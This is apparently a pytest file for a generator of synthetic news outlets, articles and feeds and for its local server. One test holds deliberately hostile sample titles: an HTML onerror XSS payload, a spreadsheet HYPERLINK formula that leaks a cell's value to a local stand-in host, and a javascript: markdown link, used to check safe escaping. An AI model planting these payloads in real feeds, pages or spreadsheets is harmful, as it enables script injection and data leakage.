"""The sample press: the same everywhere, varied, marked as a sample, and served as the real press is."""

import http.client
import os
import re
import socket
import subprocess
import sys
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from data import catalogue
from data.identity import canonical_url
from data.sample import documents, events, phrases, press, server
from data.sample.phrases import Chance
from data.sample.profiles import PROFILES
from ingest import feeds, sitemaps
from tests.conftest import moment

HOME = Path(__file__).resolve().parents[1]
ADDRESS = "http://127.0.0.1:8599"


@pytest.fixture(scope="module")
def written() -> press.Press:
    return press.press()


@pytest.fixture(scope="module")
def outlets(tmp_path_factory) -> tuple[catalogue.Outlet, ...]:
    folder = tmp_path_factory.mktemp("catalogue")
    for file in catalogue.DEFAULT.glob("*.toml"):
        (folder / file.name).write_bytes(file.read_bytes())
    (folder / "outlets.toml").write_text(press.outlets_toml(ADDRESS), "utf-8")
    return catalogue.load(folder).outlets


@pytest.fixture
def newsstand(written, outlets) -> server.Newsstand:
    return server.Newsstand(written, outlets, ADDRESS)


def in_week_from(written: press.Press, day: str, word: str) -> int:
    """How many English articles of this day and the six after it have the word."""
    first = date.fromisoformat(day)
    week = [one for one in written.articles if first <= one.published_at.date() < first + timedelta(days=7)]
    return sum(word in one.title + " ".join(one.paragraphs) for one in week if one.language == "en")


# The press itself


def test_the_same_seed_gives_the_same_press_in_any_process(written):
    told = "from data.sample import press; print(press.press().version())"
    done = subprocess.run(
        [sys.executable, "-c", told],
        cwd=HOME,
        env={**os.environ, "PYTHONHASHSEED": "1"},  # here it is another, by chance
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.strip() == written.version()


def test_a_chance_is_the_same_on_every_machine():
    chance = Chance("20240301/corvane-wire/2024-03-01")
    assert [chance.number(0, 99) for _ in range(8)] == [42, 6, 16, 66, 30, 46, 95, 78]


def test_there_are_fifteen_outlets_in_seven_languages_and_some_thousands_of_articles(written, outlets):
    languages = Counter(article.language for article in written.articles)
    assert len(outlets) == 15
    assert 4_000 <= len(written.articles) <= 5_000
    assert set(languages) == {"en", "de", "fr", "es", "uk", "ru", "nl"}
    assert languages["en"] > len(written.articles) / 2
    assert min(languages.values()) >= 50


def test_the_press_lasts_eighteen_months(written):
    days = [article.published_at.date() for article in written.articles]
    assert (min(days), max(days)) == (date(2024, 3, 1), date(2025, 8, 31))
    assert len({f"{day:%Y-%m}" for day in days}) == 18


def test_every_outlet_says_that_it_is_a_sample_and_has_a_character(outlets):
    assert all("sample" in outlet.name and "sample" in outlet.panels for outlet in outlets)
    assert {outlet.key for outlet in outlets} == {profile.outlet for profile in PROFILES}


def test_nothing_of_a_pattern_is_left_in_an_article(written):
    left = re.compile(r"[{}\[\]|]|  | [,.]| $")
    generated = [article for article in written.articles if article.subject != "hard-names"]
    assert [one.title for one in generated if left.search(one.title + "\n".join(one.paragraphs))] == []


def test_every_pattern_of_every_language_can_be_filled():
    names = dict.fromkeys("pqonx", "Name")
    for code in ("en", "de", "fr", "es", "uk", "ru", "nl"):
        language = phrases.language(code)
        cases = {f"{letter}.{case}": "Name" for letter in names for case in ("gen", "dat", "acc", "de", "a")}
        scene = {word: "X" for name in ("place", "front", "town", "port", "plan") for word in (name, f"{name}2")}
        words = {**language.words, **names, **cases, **scene, "day": "X", "s": "X"}
        for kinds in language.sections.values():
            for lines in kinds.values():
                assert all(phrases.fill(line, words, Chance(line)) for line in lines)
        for occasion in (one for some in language.occasions.values() for one in some):
            known = {**words, **dict.fromkeys(("who", "who2", "house", "village", "front"), "X"), **occasion.facts}
            for line in (*occasion.headlines, *occasion.leads, *occasion.details):
                assert phrases.fill(line, known, Chance(line))


# Its events


def told_together(written: press.Press) -> dict[str, list[press.Article]]:
    """The articles of each event, oldest first."""
    together: dict[str, list[press.Article]] = {}
    for one in written.articles:
        if one.event:
            together.setdefault(one.event, []).append(one)
    return together


def test_an_event_is_told_within_some_days_by_an_outlet_once_and_by_many_alone(written):
    told = told_together(written)
    own = [[one for one in some if not one.copy_of] for some in told.values()]
    assert all(some[-1].published_at - some[0].published_at < timedelta(days=4) for some in told.values())
    assert all(len({one.outlet for one in some}) == len(some) for some in told.values())
    assert sum(len(some) == 1 for some in own) > 400
    assert sum(len(some) >= 3 for some in own) > 150


def test_who_tells_the_same_event_tells_the_same_facts_in_other_words(written):
    fire = next(some for some in told_together(written).values() if "Grain store in" in some[0].event and len(some) > 2)
    tonnes = {number for one in fire for number in re.findall(r"(\d+),000 tonnes", one.title + one.paragraphs[0])}
    assert len(tonnes) == 1
    assert len({one.paragraphs[0] for one in fire if not one.copy_of}) == sum(not one.copy_of for one in fire)


def test_an_occasion_rests_until_nobody_tells_of_it_any_more():
    last: dict[int, date] = {}
    for event in events.planned(press.SEED, "en"):
        rested = event.at.date() - last.get(id(event.occasion), date.min)
        assert rested >= timedelta(days=events.REST)
        last[id(event.occasion)] = event.at.date()
    assert len(last) == sum(map(len, phrases.language("en").occasions.values()))


def test_an_occasion_can_be_told_in_several_ways():
    occasions = [one for some in phrases.language("en").occasions.values() for one in some]
    assert len(occasions) > 100
    assert all(len(set(one.headlines)) >= 2 and len(set(one.leads)) >= 2 for one in occasions)
    assert all(len(set(one.details)) >= 5 for one in occasions)


# Its articles


def test_articles_have_several_paragraphs_of_different_length(written):
    generated = [article for article in written.articles if not article.copy_of and article.subject != "hard-names"]
    assert all(3 <= len(article.paragraphs) <= 5 for article in generated)
    assert len({len(" ".join(article.paragraphs)) for article in generated}) > 500


def test_two_articles_rarely_share_a_long_sentence_unless_one_reprints_the_other(written):
    told = [
        {sentence for sentence in re.split(r"(?<=[.!?]) ", " ".join(article.paragraphs)) if len(sentence) > 40}
        for article in written.articles
        if not article.copy_of
    ]
    counts = Counter(sentence for sentences in told for sentence in sentences)
    shared = sum(count for count in counts.values() if count > 1)
    assert shared < 0.15 * counts.total()


def test_the_press_rests_at_the_weekend(written):
    by_day = Counter(article.published_at.weekday() for article in written.articles)
    assert by_day[5] + by_day[6] < by_day[1] + by_day[2] < 0.5 * len(written.articles)


@pytest.mark.parametrize(
    ("day", "word"),
    [
        ("2024-07-09", "NATO"),
        ("2024-07-21", "Biden"),
        ("2024-10-01", "Rutte"),
        ("2024-11-06", "Trump"),
        ("2025-01-20", "Trump"),
        ("2025-02-28", "Zelensky"),
        ("2025-06-24", "NATO"),
    ],
)
def test_a_great_event_makes_a_peak(written, day, word):
    around = [(date.fromisoformat(day) + timedelta(days=days)).isoformat() for days in (-28, -21, 21, 28)]
    assert in_week_from(written, day, word) >= 1.4 * max(in_week_from(written, other, word) for other in around)


def test_nobody_is_called_by_an_office_that_is_not_theirs_yet(written):
    def first(words: str) -> date:
        return min(one.published_at.date() for one in written.articles if words in " ".join(one.paragraphs))

    assert first("President Donald Trump") >= date(2025, 1, 20)
    assert first("NATO Secretary General Mark Rutte") >= date(2024, 10, 1)
    assert first("Chancellor Friedrich Merz") >= date(2025, 5, 6)


def test_reprints_have_the_wire_s_text_later_and_some_another_headline(written):
    by_path = {article.path: article for article in written.articles}
    reprints = [article for article in written.articles if article.copy_of]
    assert len(reprints) >= 200
    assert all(one.paragraphs == by_path[one.copy_of].paragraphs for one in reprints)
    assert all(one.published_at > by_path[one.copy_of].published_at for one in reprints)
    assert 20 <= sum(one.title != by_path[one.copy_of].title for one in reprints) < len(reprints)


def test_hard_names_are_there(written):
    text = "\n".join(f"{one.title}\n" + "\n".join(one.paragraphs) for one in written.articles)
    for name in (
        "Harris County",
        "Trump Tower",
        "Georgia peaches",
        "Tbilisi",
        "turkey farm",
        "Simon Harris",
        "chicken Kiev",
        "may be dry",
        "Theresa May",
        "Michael Jordan",
        "L3Harris",
        "Donald Trump Jr.",
        "poutine",
    ):
        assert name in text


def test_hostile_titles_come_from_an_outlet_that_says_so(written):
    hostile = {one.title for one in written.articles if "<img" in one.title or "=HYPERLINK" in one.title}
    assert hostile == {
        "<img src=x onerror=alert(1)>",
        '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Open the report")',
    }
    assert any("[Read me](javascript:alert(1))" in one.title for one in written.articles)
    assert {one.outlet for one in written.articles if one.title in hostile} == {"broken-markup-weekly"}


# Its documents


@pytest.mark.parametrize("form", ["rss", "rdf", "atom", "json"])
def test_each_form_of_feed_carries_the_same_articles(written, outlets, form):
    profile = PROFILES[0]
    # Titles of Atom and JSON Feed are read as HTML too, but have no common way to show a tag.
    chosen = ("broken-markup-weekly", "dunavare-gazette") if form in ("rss", "rdf") else ("brackwater-post",)
    articles = [article for article in written.articles if article.outlet in chosen]
    as_form = type(profile)(profile.outlet, form, 1)
    body, content_type = documents.feed(outlets[0], as_form, articles, ADDRESS)
    read = feeds.parse(body, f"{ADDRESS}/feed", content_type).entries
    assert [canonical_url(entry.url) for entry in read] == [canonical_url(ADDRESS + one.path) for one in articles]
    assert [entry.published_at for entry in read] == [one.claimed_at for one in articles]
    expected = [re.sub("[\u202e\u202c]", "", one.title) for one in articles]
    assert [re.sub("[\u202e\u202c]", "", entry.title) for entry in read] == expected
    words = [" ".join(" ".join(one.paragraphs).split()) for one in articles]
    assert [" ".join(entry.content.split()) for entry in read] == words


def test_a_news_sitemap_carries_title_date_and_language(written, outlets, newsstand):
    outlet = next(outlet for outlet in outlets if outlet.key == "zilverdrechtse-bode")
    newsstand.as_of = moment("2025-06-27T12:00")
    status, content_type, body = newsstand.answer("/zilverdrechtse-bode/news.xml")
    read = sitemaps.parse(body, outlet.feeds[0].url, content_type).entries
    assert status == 200
    assert {entry.language for entry in read} == {"nl"}
    assert len(read) == len(
        [one for one in written.articles if one.outlet == outlet.key and _lists(newsstand, one, 60)]
    )


def _lists(newsstand: server.Newsstand, article: press.Article, days: int) -> bool:
    return newsstand.as_of - timedelta(days=days) < article.published_at <= newsstand.as_of


def test_links_carry_tracking_parameters_that_the_address_of_an_article_does_not_need(newsstand):
    _, content_type, body = newsstand.answer("/corvane-wire/feed.rss")
    entry = feeds.parse(body, f"{ADDRESS}/corvane-wire/feed.rss", content_type).entries[0]
    assert "utm_source=rss" in entry.url
    assert "utm_" not in canonical_url(entry.url)


def test_some_entries_are_undated_and_one_lies_in_the_future(written):
    undated = [article for article in written.articles if article.claimed_at is None]
    ahead = [one for one in written.articles if one.claimed_at and one.claimed_at > datetime(2030, 1, 1, tzinfo=UTC)]
    assert {article.outlet for article in undated} == {"dunavare-gazette"}
    assert [article.title for article in ahead] == ["Time capsule at Dunavare school to be opened in ten years"]


def test_a_page_shows_a_hostile_title_as_text_and_says_that_it_is_a_sample(written, newsstand):
    hostile = next(one for one in written.articles if one.title.startswith("[Read me]"))
    status, _, body = newsstand.answer(hostile.path)
    page = body.decode()
    assert status == 200
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert documents.NOTICE in page


def test_only_two_outlets_need_their_pages_and_those_are_few(written, outlets):
    allowed = {outlet.key for outlet in outlets if outlet.full_text == "allowed"}
    assert allowed == {profile.outlet for profile in PROFILES if profile.carries != "text"}
    assert sum(article.outlet in allowed for article in written.articles) <= 150


# Its server


def test_a_feed_lists_the_last_days_only(newsstand):
    newsstand.as_of = moment("2024-07-12T12:00")
    _, content_type, body = newsstand.answer("/corvane-wire/feed.rss")
    published = [entry.published_at for entry in feeds.parse(body, f"{ADDRESS}/feed", content_type).entries]
    assert published == sorted(published, reverse=True)
    assert max(published) <= newsstand.as_of
    assert newsstand.as_of - timedelta(days=20) < min(published) < newsstand.as_of - timedelta(days=17)


def test_an_outlet_that_is_down_answers_500_and_its_articles_are_gone_after_that(written, newsstand):
    newsstand.as_of = moment("2024-12-20")
    assert newsstand.answer("/brackwater-post/feed.rdf")[0] == 500
    newsstand.as_of = moment("2025-01-15T12:00")
    status, content_type, body = newsstand.answer("/brackwater-post/feed.rdf")
    listed = feeds.parse(body, f"{ADDRESS}/feed", content_type).entries
    lost = [
        one
        for one in written.articles
        if one.outlet == "brackwater-post" and date(2024, 12, 2) <= one.published_at.date() <= date(2024, 12, 25)
    ]
    assert status == 200
    assert len(lost) >= 10
    assert not {one.path for one in lost} & {entry.url.removeprefix(ADDRESS) for entry in listed}


def test_a_feed_is_a_web_page_now_and_then(newsstand):
    newsstand.as_of = moment("2024-06-05T12:00")
    status, content_type, sorry = newsstand.answer("/cape-lorne-bulletin/feed.atom")
    newsstand.as_of = moment("2024-06-09T12:00")
    _, _, whole = newsstand.answer("/cape-lorne-bulletin/feed.atom")
    assert (status, content_type) == (200, "text/html; charset=utf-8")
    assert sorry.startswith(b"<!doctype html>")
    assert whole.rstrip().endswith(b"</feed>")


def test_it_is_served_over_http_with_an_etag(newsstand):
    port = free_port()
    with server.serve(newsstand, port):
        asker = http.client.HTTPConnection("127.0.0.1", port)
        asker.request("GET", "/corvane-wire/feed.rss")
        first = asker.getresponse()
        body = first.read()
        asker.request("GET", "/corvane-wire/feed.rss", headers={"If-None-Match": first.headers["ETag"]})
        again = asker.getresponse()
        asker.close()
    assert (first.status, again.status) == (200, 304)
    assert body == newsstand.answer("/corvane-wire/feed.rss")[2]


def test_what_is_not_there_is_not_found(newsstand):
    assert newsstand.answer("/nowhere")[0] == 404
    assert newsstand.answer("/corvane-wire/2024/03/01/nothing-1")[0] == 404


def test_a_port_in_use_is_named_with_a_way_out(newsstand):
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        with pytest.raises(server.PortTakenError, match=rf"port {port}.*--press-port"), server.serve(newsstand, port):
            pass


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        return int(taken.getsockname()[1])
